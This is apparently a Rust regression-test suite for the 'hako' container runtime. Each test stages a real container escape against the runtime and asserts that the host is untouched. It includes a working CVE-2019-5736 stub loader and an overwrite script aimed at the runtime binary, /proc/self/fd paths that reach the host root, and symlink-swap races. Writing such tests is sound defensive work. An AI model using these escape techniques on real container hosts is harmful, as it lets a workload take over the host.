//! Container escapes that runc closed, each as the real attack: a crafted image and config
//! against the built hako, asserting the host is untouched. Run them with
//! `HAKO_UNDER_TEST=<an older hako>` to see each fail where the defence is missing.

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::common::*;

fn sha256(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    stdout(&out)
        .split_whitespace()
        .next()
        .unwrap_or("")
        .to_string()
}

fn bind(config: &mut Value, source: &Path, dest: &str) {
    config["mounts"].as_array_mut().unwrap().push(json!({
        "destination": dest, "type": "bind", "source": source, "options": ["rbind", "rw"]
    }));
}

/// A fake ELF interpreter: the container executes /proc/self/exe of a dynamically linked runtime,
/// the kernel loads the interpreter from the container's rootfs, and this stub runs with the
/// runtime's binary as its /proc/self/exe. It keeps that file open as fd 3 and hands over to a
/// script that writes it once no runtime process runs it any more (CVE-2019-5736).
const STUB: &str = r#"
#define SYS_open 2
#define SYS_dup2 33
#define SYS_execve 59
#define SYS_exit 60
static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
__attribute__((force_align_arg_pointer)) void _start(void) {
    long fd = sys3(SYS_open, (long)"/proc/self/exe", 0, 0);
    if (fd >= 0 && fd != 3) sys3(SYS_dup2, fd, 3, 0);
    char *argv[] = {"sh", "/attack.sh", 0};
    char *envp[] = {"PATH=/bin", 0};
    sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    sys3(SYS_exit, 111, 0, 0);
}
"#;

const OVERWRITE: &str = r#"readlink /proc/self/fd/3 > /out/exe
i=0
while [ $i -lt 30 ]; do
  if (echo PWNED > /proc/self/fd/3) 2>/out/err; then echo wrote > /out/result; exit 0; fi
  i=$((i+1)); sleep 0.1
done
echo denied > /out/result
"#;

/// The ELF interpreter hako asks for, where the rootfs must hold the stub.
fn interpreter_of(binary: &Path) -> String {
    let out = Command::new("readelf").arg("-l").arg(binary).output();
    let text = out.map(|o| stdout(&o)).unwrap_or_default();
    text.lines()
        .find_map(|l| l.split("interpreter: ").nth(1))
        .map(|s| s.trim_end_matches(']').to_string())
        .unwrap_or_else(|| "/lib64/ld-linux-x86-64.so.2".to_string())
}

/// The attack's pieces: a copy of hako run from its own path (the victim), its hash, the
/// directory the attack reports into, and a bundle whose `/sh` runs `/proc/self/exe` with the
/// stub loader as the ELF interpreter hako asks for.
struct ExeAttack {
    victim: std::path::PathBuf,
    before: String,
    out_dir: std::path::PathBuf,
    bundle: Bundle,
}

fn exe_attack(env: &Env, args: Value) -> ExeAttack {
    exe_attack_in(env, args, "")
}

/// `exe_attack` with the victim in the subdirectory `sub` of the env's directory.
fn exe_attack_in(env: &Env, args: Value, sub: &str) -> ExeAttack {
    let dir = env.dir.path();
    std::fs::create_dir_all(dir.join(sub)).unwrap();
    let victim = dir.join(sub).join("hako-under-attack");
    std::fs::copy(hako_bin(), &victim).unwrap();
    let before = sha256(&victim);
    let out_dir = dir.join("out");
    std::fs::create_dir(&out_dir).unwrap();
    let bundle = env.bundle(|c| {
        c["process"]["args"] = args;
        bind(c, &out_dir, "/out");
    });
    let rootfs = bundle.rootfs();
    let interp = interpreter_of(&victim);
    let stub_c = dir.join("stub.c");
    std::fs::write(&stub_c, STUB).unwrap();
    let stub_dest = rootfs.join(interp.trim_start_matches('/'));
    std::fs::create_dir_all(stub_dest.parent().unwrap()).unwrap();
    let cc = Command::new("cc")
        .args(["-nostdlib", "-static", "-O2", "-fno-stack-protector", "-o"])
        .arg(&stub_dest)
        .arg(&stub_c)
        .output()
        .expect("cc (gcc) builds the attack's stub loader");
    assert!(cc.status.success(), "cc: {}", stderr(&cc));
    // CVE-2019-5736's own entrypoint: a script whose interpreter is /proc/self/exe, which the
    // kernel resolves while the process is still hako. (A symlink to /proc/self/exe as args[0]
    // is refused before that: hako resolves args[0] without magic links.)
    std::fs::write(rootfs.join("sh"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        rootfs.join("sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(rootfs.join("attack.sh"), OVERWRITE).unwrap();
    ExeAttack {
        victim,
        before,
        out_dir,
        bundle,
    }
}

/// `victim ARGS` with this env's --root.
fn victim_runs(env: &Env, a: &ExeAttack, args: &[&str]) -> std::process::Output {
    let mut cmd = Command::new(&a.victim);
    cmd.arg("--root").arg(&env.root).args(args);
    output_via_files(cmd.stdin(std::process::Stdio::null()))
}

/// Waits for the attack's verdict; the victim must be untouched.
fn check_exe_attack(a: &ExeAttack) {
    let result = a.out_dir.join("result");
    assert!(
        eventually_for(Duration::from_secs(10), || result.exists()),
        "the attack did not run: {:?}",
        std::fs::read_dir(&a.out_dir).unwrap().count()
    );
    let seen = std::fs::read_to_string(a.out_dir.join("exe")).unwrap_or_default();
    let verdict = std::fs::read_to_string(&result).unwrap();
    assert_eq!(
        sha256(&a.victim),
        a.before,
        "the host's hako binary was rewritten from the container (it saw {seen:?})"
    );
    assert_eq!(verdict.trim(), "denied", "{seen}");
    assert_ne!(
        seen.trim(),
        a.victim.to_str().unwrap(),
        "/proc/self/exe was the host's binary"
    );
}

#[test]
fn host_binary_cannot_be_overwritten_through_proc_self_exe() {
    let env = Env::new();
    let a = exe_attack(&env, json!(["/sh"]));
    let id = unique_id("exe");
    let out = victim_runs(&env, &a, &["run", "-d", "-b", a.bundle.path(), &id]);
    assert!(out.status.success(), "run -d: {}", stderr(&out));
    check_exe_attack(&a);
}

/// The same attack on a hako whose directory overlayfs cannot take as a layer (a ':' in its
/// path): the seal at the entry point leaves it to main, which seals with a memfd copy.
#[test]
fn host_binary_cannot_be_overwritten_when_its_directory_cannot_be_a_layer() {
    let env = Env::new();
    let a = exe_attack_in(&env, json!(["/sh"]), "not:a:layer");
    let id = unique_id("exe-memfd");
    let out = victim_runs(&env, &a, &["run", "-d", "-b", a.bundle.path(), &id]);
    assert!(out.status.success(), "run -d: {}", stderr(&out));
    check_exe_attack(&a);
    let seen = std::fs::read_to_string(a.out_dir.join("exe")).unwrap();
    assert!(seen.starts_with("/memfd:"), "{seen}");
}

/// `run`'s first process seals and re-executes at hako's entry point, before the C library and
/// Rust's runtime start (linux/exeseal_entry.rs): its first image makes none of their system
/// calls (Rust's stdio check and signal setup: poll, rt_sigaction, sigaltstack), only the
/// seal's.
#[test]
fn the_seal_is_made_at_the_entry_point() {
    let env = Env::new();
    let bundle = env.bundle(|c| c["process"]["args"] = json!(["true"]));
    let log = env.dir.path().join("strace.log");
    let id = unique_id("entry");
    let out = Command::new("strace")
        .arg("-o")
        .arg(&log)
        .args([
            "-e",
            "trace=poll,rt_sigaction,sigaltstack,fsopen,fsmount,execve,execveat",
        ])
        .arg(hako_bin())
        .arg("--root")
        .arg(&env.root)
        .args(["run", "-b", bundle.path(), &id])
        .output()
        .expect("strace (apt-get install strace)");
    assert!(out.status.success(), "{}", stderr(&out));
    let log = std::fs::read_to_string(&log).unwrap();
    let calls: Vec<&str> = log
        .lines()
        .map(|l| l.split('(').next().unwrap_or(""))
        .collect();
    let first_image: Vec<&str> = calls
        .iter()
        .skip(1)
        .take_while(|c| **c != "execveat")
        .copied()
        .collect();
    assert_eq!(calls.first(), Some(&"execve"), "{log}");
    assert_eq!(
        first_image,
        ["fsopen", "fsmount", "fsopen", "fsmount"],
        "the first image did more than seal: {log}"
    );
}

/// A caller with stdio closed: the seal's mounts would take fds 0-2 at the entry point and reach
/// the container as its stdio (a directory of the host's, outside its root); the seal is left to
/// main then, once Rust's runtime has put /dev/null there (found by an attacker's review).
#[test]
fn closed_stdio_is_not_filled_with_the_seal_mounts() {
    let env = Env::new();
    let out_dir = env.dir.path().join("out");
    std::fs::create_dir(&out_dir).unwrap();
    let bundle = env.bundle(|c| {
        c["process"]["args"] = json!([
            "sh",
            "-c",
            "for f in 0 1 2; do test -c /proc/self/fd/$f && echo char >&3 || echo other >&3; \
             done 3>/out/fds"
        ]);
        bind(c, &out_dir, "/out");
    });
    let id = unique_id("stdio");
    let status = Command::new("sh")
        .arg("-c")
        .arg(r#"exec "$0" --root "$1" run -b "$2" "$3" <&- >&- 2>&-"#)
        .arg(hako_bin())
        .arg(&env.root)
        .arg(bundle.path())
        .arg(&id)
        .status()
        .unwrap();
    assert!(status.success(), "{status:?}");
    let fds = std::fs::read_to_string(out_dir.join("fds")).unwrap();
    assert_eq!(fds, "char\nchar\nchar\n", "the container's fds 0-2");
}

/// The same attack through `exec -d`: the exec'd process executes /proc/self/exe of the hako
/// process that made it.
#[test]
fn host_binary_cannot_be_overwritten_through_exec() {
    let env = Env::new();
    let a = exe_attack(&env, json!(["sleep", "1000"]));
    let id = unique_id("exe-exec");
    let out = victim_runs(&env, &a, &["run", "-d", "-b", a.bundle.path(), &id]);
    assert!(out.status.success(), "run -d: {}", stderr(&out));
    let out = victim_runs(&env, &a, &["exec", "-d", &id, "/sh"]);
    assert!(out.status.success(), "exec -d: {}", stderr(&out));
    check_exe_attack(&a);
}

/// Waits up to `limit` for `f`.
fn eventually_for(limit: Duration, mut f: impl FnMut() -> bool) -> bool {
    let start = Instant::now();
    while start.elapsed() < limit {
        if f() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    false
}

#[test]
fn cwd_through_a_leaked_fd_is_refused() {
    let env = Env::new();
    let host_pid = std::process::id();
    // Any host directory the init held open would show the test's own pid in the host's /proc,
    // or lead there through `..`; the container has a pid namespace of its own.
    let script = format!(
        "for d in . .. ../.. ../../.. /proc/self/fd/../..; do \
         test -e $d/{host_pid}/status && echo ESCAPED; \
         test -e $d/proc/{host_pid}/status && echo ESCAPED; done; echo inside"
    );
    for fd in 3..=9 {
        let out = env.run_sh(&script, |c| {
            c["process"]["cwd"] = json!(format!("/proc/self/fd/{fd}"));
        });
        let (o, e) = (stdout(&out), stderr(&out));
        assert!(
            !o.contains("ESCAPED"),
            "cwd /proc/self/fd/{fd} escaped: {o}"
        );
        if out.status.success() {
            assert!(o.contains("inside"), "{o} {e}");
        } else {
            assert!(e.contains("process.cwd"), "fd {fd}: {e}");
        }
    }
}

#[test]
fn mounts_inside_proc_are_refused_even_through_an_image_symlink() {
    let env = Env::new();
    let volume = env.dir.path().join("volume");
    std::fs::create_dir(&volume).unwrap();
    std::fs::write(volume.join("ip_forward"), "0\n").unwrap();
    let b = env.bundle(|c| {
        c["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
        bind(c, &volume, "/vol");
    });
    // The image: /vol leads into /proc, so the volume would cover /proc/sys/net/ipv4 and the
    // runtime's sysctl write would land in the host's volume.
    std::os::unix::fs::symlink("/proc/sys/net/ipv4", b.rootfs().join("vol")).unwrap();
    let id = unique_id("procvol");
    let out = env.hako(&["run", "-b", b.path(), &id]);
    assert_eq!(
        std::fs::read_to_string(volume.join("ip_forward")).unwrap(),
        "0\n",
        "a sysctl write was redirected into the host's volume"
    );
    assert_error(&out, "/proc/sys/net/ipv4 is inside /proc");
    assert!(env.ids().is_empty(), "left behind: {:?}", env.ids());
}

#[test]
fn procfs_writes_are_not_redirected_by_a_fake_proc() {
    let env = Env::new();
    // The host's volume stands in for /proc: the image's /proc is a symlink into it, so the
    // proc mount lands under the volume, which then covers it.
    let volume = env.dir.path().join("volume");
    for d in ["p/self", "p/sys/net/ipv4"] {
        std::fs::create_dir_all(volume.join(d)).unwrap();
    }
    std::fs::write(volume.join("p/self/oom_score_adj"), "0\n").unwrap();
    std::fs::write(volume.join("p/sys/net/ipv4/ip_forward"), "0\n").unwrap();
    let b = env.bundle(|c| {
        c["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
        c["process"]["oomScoreAdj"] = json!(123);
        c["process"]["args"] = json!(["sleep", "30"]);
        bind(c, &volume, "/vol");
    });
    let proc_dir = b.rootfs().join("proc");
    std::fs::remove_dir(&proc_dir).unwrap();
    std::os::unix::fs::symlink("/vol/p", &proc_dir).unwrap();
    let id = unique_id("fakeproc");
    let out = env.hako(&["run", "-d", "-b", b.path(), &id]);
    let untouched = |rel: &str| std::fs::read_to_string(volume.join(rel)).unwrap() == "0\n";
    assert!(
        untouched("p/self/oom_score_adj") && untouched("p/sys/net/ipv4/ip_forward"),
        "the runtime wrote into the host's volume"
    );
    // Refusing the config is a defence too; running it must apply the values for real.
    if out.status.success() {
        let pid = env.state(&id)["pid"].as_i64().unwrap();
        let adj = std::fs::read_to_string(format!("/proc/{pid}/oom_score_adj")).unwrap();
        assert_eq!(adj.trim(), "123", "oomScoreAdj was not applied");
        let fwd = Command::new("nsenter")
            .args([
                "-t",
                &pid.to_string(),
                "-n",
                "cat",
                "/proc/sys/net/ipv4/ip_forward",
            ])
            .output()
            .unwrap();
        assert_eq!(stdout(&fwd).trim(), "1", "the sysctl was not applied");
    } else {
        assert_error(&out, "proc");
    }
}

#[test]
fn a_killed_start_leaves_a_startable_record_not_a_hang() {
    let env = Env::new();
    // A startContainer hook holds the init between its release and execve.
    let b = env.bundle(|c| {
        c["process"]["args"] = json!(["sleep", "30"]);
        c["hooks"] = json!({"startContainer": [{"path": "/bin/sleep", "args": ["sleep", "2"]}]});
    });
    let id = unique_id("killstart");
    let out = env.hako(&["create", "-b", b.path(), &id]);
    assert!(out.status.success(), "create: {}", stderr(&out));
    let mut first = env
        .command(&["start", &id])
        .stdin(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Killed once the init has been released (the fifo stamped), before it finished.
    let fifo = env.root.join(&id).join("exec.fifo");
    let released = || {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(&fifo).is_ok_and(|m| m.mtime() != 0)
    };
    assert!(eventually(released), "start did not release the init");
    first.kill().unwrap();
    first.wait().unwrap();
    // A second start must answer at once, and never hang.
    let mut second = env
        .command(&["start", &id])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let finished = eventually_for(Duration::from_secs(5), || {
        second.try_wait().unwrap().is_some()
    });
    if !finished {
        let _ = second.kill();
    }
    assert!(finished, "a second `start` hangs after a killed one");
    let out = second.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("it is running") || err.contains("already been started"),
        "{err}"
    );
    assert!(
        eventually_for(Duration::from_secs(5), || env.status(&id) == "running"),
        "state: {}",
        env.status(&id)
    );
}

/// Paths the container controls, pointed through the fds hako holds until execve at the host's
/// root (`/proc/self/fd/N/2/root`: the host's kthreadd, seen through the runtime's /proc).
fn through_held_fds(rest: &str) -> Vec<String> {
    (3..=9)
        .map(|fd| format!("/proc/self/fd/{fd}/2/root{rest}"))
        .collect()
}

/// Adds a capability to every set (a workload that asks for CAP_SYS_PTRACE, say).
fn add_capability(config: &mut Value, cap: &str) {
    for set in [
        "bounding",
        "effective",
        "permitted",
        "inheritable",
        "ambient",
    ] {
        let list = &mut config["process"]["capabilities"][set];
        if !list.is_array() {
            *list = json!([]);
        }
        list.as_array_mut().unwrap().push(json!(cap));
    }
}

#[test]
fn cwd_through_the_runtimes_proc_makes_nothing_on_the_host() {
    let env = Env::new();
    let victim = env.dir.path().join("made-by-the-container");
    for cwd in through_held_fds(victim.to_str().unwrap()) {
        let out = env.run_sh("pwd", |c| c["process"]["cwd"] = json!(cwd));
        assert!(!victim.exists(), "cwd {cwd} made a directory on the host");
        assert!(
            out.status.success() || stderr(&out).contains("process.cwd"),
            "{cwd}: {}",
            stderr(&out)
        );
    }
}

#[test]
fn program_through_the_runtimes_proc_is_not_a_host_binary() {
    let env = Env::new();
    let host_program = env.dir.path().join("host-program");
    std::fs::write(&host_program, "#!/bin/sh\necho RAN-A-HOST-FILE\n").unwrap();
    std::fs::set_permissions(
        &host_program,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    for program in through_held_fds(host_program.to_str().unwrap()) {
        let b = env.bundle(|c| {
            c["process"]["args"] = json!([program]);
            add_capability(c, "CAP_SYS_PTRACE");
        });
        let out = env.hako(&["run", "-b", b.path(), &unique_id("hostprog")]);
        assert!(
            !stdout(&out).contains("RAN-A-HOST-FILE"),
            "{program} ran a host file in the container"
        );
        assert_eq!(out.status.code(), Some(127), "{program}: {}", stderr(&out));
    }
}

#[test]
fn passwd_through_the_runtimes_proc_leaks_no_host_file() {
    let env = Env::new();
    let host_file = env.dir.path().join("host-passwd");
    std::fs::write(&host_file, "root:x:0:0::/LEAKED-FROM-THE-HOST:/bin/sh\n").unwrap();
    for link in through_held_fds(host_file.to_str().unwrap()) {
        let b = env.bundle(|c| {
            c["process"]["args"] = json!(["sh", "-c", "echo home=$HOME"]);
            add_capability(c, "CAP_SYS_PTRACE");
            let list = c["process"]["env"].as_array_mut().unwrap();
            list.retain(|e| !e.as_str().unwrap_or("").starts_with("HOME="));
        });
        let passwd = b.rootfs().join("etc/passwd");
        std::fs::remove_file(&passwd).unwrap();
        std::os::unix::fs::symlink(&link, &passwd).unwrap();
        let out = env.hako(&["run", "-b", b.path(), &unique_id("passwd")]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(
            !stdout(&out).contains("LEAKED"),
            "HOME came from a host file: {}",
            stdout(&out)
        );
    }
}

#[test]
fn a_cgroup_mount_inside_proc_is_refused() {
    let env = Env::new();
    let b = env.bundle(|c| {
        c["mounts"].as_array_mut().unwrap().push(json!({
            "destination": "/proc/sys/net/ipv4", "type": "cgroup", "source": "cgroup"
        }));
    });
    let out = env.hako(&["run", "-b", b.path(), &unique_id("cgproc")]);
    assert_error(&out, "is inside /proc");
}

#[test]
fn device_nodes_are_not_chmodded_through_a_swapped_symlink() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    // /dev is a volume another writer shares: it swaps a symlink to a host file in at the
    // node's name while hako makes the node, hoping hako's chmod follows it.
    let devvol = env.dir.path().join("devvol");
    std::fs::create_dir(&devvol).unwrap();
    let victim = env.dir.path().join("victim");
    std::fs::write(&victim, "host file\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
    let b = env.bundle(|c| {
        c["process"]["args"] = json!(["true"]);
        bind(c, &devvol, "/dev");
        c["linux"]["devices"] = json!([{
            "path": "/dev/fuse", "type": "c", "major": 10, "minor": 229, "fileMode": 438
        }]);
    });
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (stop, node, victim) = (stop.clone(), devvol.join("fuse"), victim.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = std::fs::remove_file(&node);
                let _ = std::os::unix::fs::symlink(&victim, &node);
            }
        })
    };
    let mut changed = None;
    for _ in 0..30 {
        let _ = env.hako(&["run", "-b", b.path(), &unique_id("devrace")]);
        let mode = std::fs::metadata(&victim).unwrap().permissions().mode() & 0o777;
        if mode != 0o600 {
            changed = Some(mode);
            break;
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    assert_eq!(
        changed, None,
        "the host file's mode was changed through the symlink"
    );
}

/// With --no-pivot the runtime's /proc stays in the container's mount namespace, beneath its
/// root; while it is fully visible, the container can mount a fresh /proc without the masks.
#[test]
fn no_pivot_leaves_no_bare_proc_to_mount() {
    let env = Env::new();
    let b = env.bundle(|c| {
        c["process"]["args"] = json!([
            "unshare",
            "-mrpf",
            "sh",
            "-c",
            "mount -t proc none /proc && echo MOUNTED-A-BARE-PROC"
        ]);
        add_capability(c, "CAP_SETFCAP");
    });
    let out = env.hako(&["run", "--no-pivot", "-b", b.path(), &unique_id("nopivot")]);
    assert!(
        !stdout(&out).contains("MOUNTED-A-BARE-PROC"),
        "a bare /proc was mounted: {}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("Permission denied") || stderr(&out).contains("permission denied"),
        "{}",
        stderr(&out)
    );
}

/// A read-only tmpfs is made read-only after pivot_root. A volume the front-end mounts nosuid,
/// nodev, noexec over the same destination must keep those flags: remounting "whatever is at
/// that path by now" with the tmpfs's flags would clear them, and would leave the tmpfs writable.
#[test]
fn the_read_only_tmpfs_remount_does_not_loosen_a_volume_over_it() {
    let env = Env::new();
    let vol = env.dir.path().join("vol");
    std::fs::create_dir(&vol).unwrap();
    let out = env.run_sh(r#"grep ' /t ' /proc/mounts | cut -d' ' -f3,4"#, |c| {
        let mounts = c["mounts"].as_array_mut().unwrap();
        mounts.push(json!({
            "destination": "/t", "type": "tmpfs", "source": "tmpfs", "options": ["ro"]
        }));
        mounts.push(json!({
            "destination": "/t", "type": "bind", "source": vol,
            "options": ["rbind", "rw", "nosuid", "nodev", "noexec"]
        }));
    });
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert!(lines[0].starts_with("tmpfs ro,"), "the tmpfs: {}", lines[0]);
    let vol_flags: Vec<&str> = lines[1].split(' ').nth(1).unwrap().split(',').collect();
    for want in ["rw", "nosuid", "nodev", "noexec"] {
        assert!(
            vol_flags.contains(&want),
            "the volume lost {want}: {}",
            lines[1]
        );
    }
}

/// createContainer hooks start in the rootfs, before pivot_root, as the runtime's user: a
/// relative hook path would name the image's file and run it with the host's root in reach.
/// The spec wants hook paths absolute, and hako refuses any other before anything runs.
#[test]
fn a_relative_create_container_hook_never_runs_an_image_binary() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let marker = env.dir.path().join("image-code-ran-on-the-host");
    for path in ["./hook", "bin/../hook", "hook"] {
        let b = env.bundle(|c| {
            c["process"]["args"] = json!(["true"]);
            c["hooks"] = json!({"createContainer": [{"path": path}]});
        });
        let hook = b.rootfs().join("hook");
        std::fs::write(
            &hook,
            format!("#!/bin/sh\necho pwned > {}\n", marker.display()),
        )
        .unwrap();
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        let id = unique_id("relhook");
        let out = env.hako(&["run", "-b", b.path(), &id]);
        let _ = env.hako(&["delete", "-f", &id]);
        assert!(!marker.exists(), "{path}: the image's hook ran on the host");
        assert_error(
            &out,
            &format!("hooks.createContainer[0].path: {path}: must be an absolute path"),
        );
    }
}
